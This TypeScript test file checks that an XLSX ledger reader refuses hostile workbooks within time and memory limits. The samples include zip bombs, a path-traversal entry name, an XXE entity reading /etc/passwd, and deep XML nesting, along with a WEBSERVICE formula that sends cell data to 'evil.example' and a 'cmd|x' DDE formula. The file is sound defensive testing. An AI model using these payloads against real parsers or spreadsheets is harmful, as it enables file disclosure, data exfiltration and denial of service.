import { execFile } from 'node:child_process'
import { mkdtempSync, rmSync, writeFileSync } from 'node:fs'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { promisify } from 'node:util'
import { isInvalidInput } from '@bihuan/core'
import fc from 'fast-check'
import { writeXlsx } from 'hucre'
import { afterAll, describe, expect, it } from 'vitest'
import type { Took } from './child-for-tests.ts'
import { workbook } from './for-tests.ts'
import { readLedger } from './index.ts'
import { limits } from './xlsx/limits.ts'
import { archive, ledgerRows, parts, rowXml, sheetXml, type TestPart } from './zip-for-tests.ts'

const folder = mkdtempSync(join(tmpdir(), 'bihuan-hostile-'))
afterAll(() => rmSync(folder, { recursive: true, force: true }))

const flags = ['--experimental-strip-types', '--conditions=@bihuan/source', '--disable-warning=ExperimentalWarning']
let files = 0
/** Reads a file in a process of its own. */
async function took(bytes: Uint8Array, name = ''): Promise<Took> {
  const path = join(folder, `${++files}.bin`)
  writeFileSync(path, bytes)
  const child = join(import.meta.dirname, 'child-for-tests.ts')
  const { stdout } = await promisify(execFile)(process.execPath, [...flags, child, path, name])
  return JSON.parse(stdout) as Took
}

const sheet = 'xl/worksheets/sheet1.xml'
const with1 = (part: TestPart) => [...parts().filter(({ name }) => name !== part.name), part]
const filler = (size: number, head = '', tail = '') => {
  const bytes = Buffer.alloc(size, ' ')
  bytes.write(head, 0)
  bytes.write(tail, size - Buffer.byteLength(tail))
  return new Uint8Array(bytes)
}
const doctype = '<!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/passwd"><!ENTITY b "&a;&a;">]>'
const strings = (inner: string) => `<sst xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">${inner}</sst>`

const hostile: Readonly<Record<string, readonly [code: string, make: () => Uint8Array | Promise<Uint8Array>, name?: string]>> = {
  'a sheet of 1 GB, packed into a megabyte': [
    'tooLarge',
    () => archive(with1({ name: sheet, data: filler(2 ** 27), says: { size: 2 ** 30, crc: 0 } })),
  ],
  'a sheet of 200 MB that says it is small': [
    'tooLarge',
    () => archive(with1({ name: sheet, data: filler(2 ** 27), says: { size: 1000, crc: 0 } })),
  ],
  'a sheet that says it is larger than it is': [
    'badZip',
    () => archive(with1({ name: sheet, data: sheetXml(ledgerRows), says: { size: 20 * 2 ** 20 } })),
  ],
  'a sheet that is not what its check sum says': [
    'badZip',
    () => archive(with1({ name: sheet, data: sheetXml(ledgerRows), says: { crc: 1 } })),
  ],
  'one part that a hundred names share': [
    'tooLarge',
    () =>
      archive([
        ...parts(),
        { name: 'a', data: filler(20 * 2 ** 20) },
        ...Array.from({ length: 100 }, (_, i) => ({ name: `a${i}`, data: '', like: 'a' })),
      ]),
  ],
  '30,000 parts': [
    'tooManyEntries',
    () => archive([...parts(), ...Array.from({ length: 30_000 }, (_, i) => ({ name: `x${i}.xml`, data: '', like: '_rels/.rels' }))]),
  ],
  'an end that speaks of 65,535 parts': ['badZip', () => archive(parts(), 0xffff)],
  'a file of 33 MB': ['tooLarge', () => Buffer.concat([archive(parts()), Buffer.alloc(limits.file)]).subarray(0, limits.file + 1)],
  'a name that leads out': ['badName', () => archive([...parts(), { name: '../../etc/cron.d/x', data: 'x' }])],
  'a name that is a path of Windows': ['badName', () => archive([...parts(), { name: 'C:\\x.xml', data: 'x' }])],
  'an absolute name': ['badName', () => archive([...parts(), { name: '/etc/passwd', data: 'x' }])],
  'a sheet with an external entity': ['declaresEntities', () => archive(parts({ [sheet]: doctype + sheetXml(rowXml(1, '任务', '&a;')) }))],
  'shared strings with entities': [
    'declaresEntities',
    () => archive(parts({ 'xl/sharedStrings.xml': doctype + strings('<si><t>&b;</t></si>') })),
  ],
  'a workbook with a document type': ['declaresEntities', () => archive(parts({ 'xl/workbook.xml': `${doctype}<workbook/>` }))],
  'relations with a document type': ['declaresEntities', () => archive(parts({ '_rels/.rels': `${doctype}<Relationships/>` }))],
  'a million shared strings': [
    'tooManyCells',
    () => archive(parts({ 'xl/sharedStrings.xml': strings('<si><t>x</t></si>'.repeat(1_000_000)) })),
  ],
  'a billion shared strings, as their size says': [
    'tooLarge',
    () => archive(with1({ name: 'xl/sharedStrings.xml', data: filler(2 ** 25), says: { size: 0xfffffff0, crc: 0 } })),
  ],
  'two cells at the ends of the sheet': [
    'tooManyCells',
    () => archive(parts({ [sheet]: sheetXml(`${ledgerRows}<row r="1048576"><c r="XFD1048576"><v>1</v></c></row>`) })),
  ],
  'a cell in a hidden quote': [
    'tooManyCells',
    () => archive(parts({ [sheet]: sheetXml(`${ledgerRows}<row r="9"><c x=">" r="XFD9999"><v>1</v></c></row>`) })),
  ],
  '800,000 cells': ['tooManyCells', () => archive(parts({ [sheet]: sheetXml('<row><c><v>1</v></c></row>'.repeat(800_000)) }))],
  'more cells than may be, close together': [
    'tooManyCells',
    () =>
      archive(
        parts({
          [sheet]: sheetXml(
            Array.from({ length: 16_000 }, (_, row) => `<row r="${row + 1}">${`<c r="A${row + 1}"><v>1</v></c>`.repeat(25)}</row>`).join(
              '',
            ),
          ),
        }),
      ),
  ],
  'ranges that cover everything many times': [
    'tooManyCells',
    () =>
      archive(
        parts({
          [sheet]: sheetXml(ledgerRows + rowXml(3000, 'x')).replace(
            '</worksheet>',
            `<mergeCells>${'<mergeCell ref="A1:C3000"/>'.repeat(5000)}</mergeCells></worksheet>`,
          ),
        }),
      ),
  ],
  'tags a hundred thousand deep': ['badXml', () => archive(parts({ [sheet]: sheetXml('<a>'.repeat(100_000)) }))],
  'a tag that never ends, a million times': ['badXml', () => archive(parts({ [sheet]: sheetXml('<c "'.repeat(1_000_001)) }))],
  'a tag that is not closed': ['badXml', () => archive(parts({ [sheet]: '<worksheet><sheetData>' }))],
  'a sheet that is not UTF-8': ['badXml', () => archive(with1({ name: sheet, data: Uint8Array.from([0x3c, 0xff, 0xfe]) }))],
  'a password': [
    'encrypted',
    async () =>
      new Uint8Array(
        await writeXlsx({ sheets: [{ name: 'x', rows: [['任务'], ['甲']] }], encryption: { password: 'geheim', spinCount: 1000 } }),
      ),
  ],
  'a part that is encrypted': ['encrypted', () => archive(with1({ name: sheet, data: 'x', says: { flags: 1 } }))],
  'an old XLS': ['oldXls', () => Buffer.concat([Buffer.from([0xd0, 0xcf, 0x11, 0xe0, 0xa1, 0xb1, 0x1a, 0xe1]), Buffer.alloc(4096)])],
  'a picture called .xlsx': ['notXlsx', () => Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]), '台账.xlsx'],
  'a text called .xlsx': ['notXlsx', () => Buffer.from('任务,责任单位\n甲,乙\n'), '台账.xlsx'],
  'a ZIP that is no workbook': ['notXlsx', () => archive([{ name: 'readme.txt', data: 'x' }])],
  'a binary workbook': [
    'notXlsx',
    () =>
      archive(
        parts({
          '_rels/.rels': '<Relationships><Relationship Id="a" Type="x/officeDocument" Target="xl/workbook.bin"/></Relationships>',
          'xl/workbook.bin': 'x',
        }),
      ),
  ],
  'half of a workbook': ['badZip', () => archive(parts()).subarray(0, 700)],
}

describe('is refused with a code within 2 s and 300 MB', () => {
  it.each(Object.entries(hostile))('%s', { timeout: 120_000 }, async (_, [code, make, name]) => {
    const { outcome, ms, rss } = await took(await make(), name)
    expect(outcome).toBe(code)
    expect([ms < 2000 ? 'in time' : ms, rss < 300 ? 'in bounds' : rss]).toEqual(['in time', 'in bounds'])
  })
})

describe('what is as large as may be is read within 400 MB', () => {
  const cells = (rows: number, columns: number) =>
    Array.from(
      { length: rows },
      (_, row) =>
        `<row r="${row + 3}">${Array.from({ length: columns }, (_, at) => `<c r="${String.fromCharCode(65 + at)}${row + 3}"><v>${row}</v></c>`).join('')}</row>`,
    ).join('')
  it.each<readonly [string, () => Uint8Array]>([
    ['as many cells', () => archive(parts({ [sheet]: sheetXml(ledgerRows + cells(14_900, 20)) }))],
    ['as many strings', () => archive(parts({ 'xl/sharedStrings.xml': strings('<si><t>台账</t></si>'.repeat(149_000)) }))],
    [
      'columns and rows without anything in them',
      () =>
        archive(
          parts({
            [sheet]: sheetXml(
              ledgerRows + Array.from({ length: 100_000 }, (_, row) => `<row r="${row + 3}"><c r="XFD${row + 3}" s="1"/></row>`).join(''),
              `<cols>${'<col min="1" max="16384" width="9"/>'.repeat(100_000)}</cols>`,
            ),
          }),
        ),
    ],
  ])('%s', { timeout: 120_000 }, async (_, make) => {
    const { outcome, ms, rss } = await took(make())
    expect(outcome).toBe('read')
    expect([ms < 4000 ? 'in time' : ms, rss < 400 ? 'in bounds' : rss]).toEqual(['in time', 'in bounds'])
  })
})

/** The code with which bytes are refused, or that they were read. Anything else that is thrown comes out. */
async function outcome(bytes: Uint8Array): Promise<string> {
  try {
    await readLedger(bytes, { format: 'xlsx' })
    return 'read'
  } catch (error) {
    if (isInvalidInput(error) && error.issues[0]?.path[0] === 'file') return error.issues[0].code
    throw error
  }
}

describe('a workbook that is damaged', () => {
  const good = archive(parts({ 'xl/sharedStrings.xml': strings('<si><t>x</t></si>') }))

  it('is refused wherever it is cut off', async () => {
    expect(await outcome(good)).toBe('read')
    for (let length = 0; length < good.length; length++) expect([length, await outcome(good.subarray(0, length))]).not.toContain('read')
  })

  it('is read, or refused with a code, whatever bytes are changed', async () => {
    await fc.assert(
      fc.asyncProperty(fc.array(fc.tuple(fc.nat(good.length - 1), fc.nat(255)), { minLength: 1, maxLength: 8 }), async (flips) => {
        const bytes = good.slice()
        for (const [at, value] of flips) bytes[at] = value
        expect(typeof (await outcome(bytes))).toBe('string')
      }),
      { numRuns: 2000 },
    )
  })

  it('and so is a sheet with any tags in it', async () => {
    const tag = fc.constantFrom(
      '<c>',
      '</c>',
      '<c r="A2">',
      '<c r="ZZZ9999999">',
      '<c r="a1">',
      '<row>',
      '</row>',
      '<row r="0">',
      '<row r="-1">',
      '<v>',
      '</v>',
      '1',
      '<f>',
      '</f>',
      '"',
      '<',
      '>',
      '&',
      '&#x110000;',
      '<!--',
      '-->',
      '<![CDATA[',
      ']]>',
      '<?',
      '?>',
      '</sheetData>',
      '<sheetData>',
      '<is><t>x',
      '</t></is>',
    )
    await fc.assert(
      fc.asyncProperty(fc.array(tag, { maxLength: 30 }), async (tags) => {
        expect(typeof (await outcome(archive(parts({ [sheet]: sheetXml(ledgerRows + tags.join('')) }))))).toBe('string')
      }),
      { numRuns: 1000 },
    )
  })
})

it('formulas are not evaluated: stored values are taken and told, and one without a value is a problem', async () => {
  const formula = (cell: string, inner: string, type = 'str') => `<c r="${cell}" t="${type}">${inner}</c>`
  const rows = `${rowXml(1, '任务', '责任单位', '完成时限')}<row r="2">${formula('A2', '<f>WEBSERVICE("http://evil.example/"&amp;A1)</f><v>甲</v>')}${formula('B2', '<f>1+1</f><v>住建局</v>')}</row><row r="3">${formula('A3', '<f>cmd|x</f>')}${formula('B3', '<v>#REF!</v>', 'e')}</row>`
  const read = await readLedger(archive(parts({ [sheet]: sheetXml(rows) })))
  expect(read.rows[0]?.cells.get('title')?.text).toBe('甲')
  expect(read.warnings.map(({ code, cell, facts }) => [code, cell, facts.count])).toEqual([
    ['formula', 'A2', '1'],
    ['formula', 'B2', '1'],
  ])
  expect(read.problems.map(({ code, cell }) => [code, cell])).toEqual([
    ['noValue', 'A3'],
    ['errorCell', 'B3'],
  ])
})

it('macros are left alone, which is told', async () => {
  const read = await readLedger(archive(parts({ 'xl/vbaProject.bin': 'Sub Auto_Open()' })), { name: '台账.xlsm' })
  expect(read.rows).toHaveLength(1)
  expect(read.warnings.map(({ code }) => code)).toEqual(['macros'])
})

it('a workbook is known by what it holds, not by its name', async () => {
  const bytes = await workbook({
    rows: [
      ['任务', '责任单位'],
      ['甲', '乙局'],
    ],
  })
  expect((await readLedger(bytes, { name: '台账.csv' })).format).toBe('xlsx')
})
